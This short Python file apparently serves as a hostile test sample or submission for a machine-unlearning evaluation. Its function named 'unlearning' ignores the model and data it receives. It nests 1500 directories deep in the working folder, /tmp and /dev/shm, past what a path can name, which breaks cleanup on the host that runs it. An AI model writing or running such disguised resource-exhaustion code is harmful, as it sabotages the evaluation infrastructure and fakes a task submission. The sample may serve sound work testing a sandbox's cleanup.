"""Nests 1500 folders in scratch, /tmp and /dev/shm, deeper than a path can name; all must be removed."""

import os


def unlearning(net, retain, forget, val):
    for folder in (os.getcwd(), "/tmp", "/dev/shm"):
        os.chdir(folder)
        for _ in range(1_500):
            os.mkdir("unlearn-hostile")
            os.chdir("unlearn-hostile")
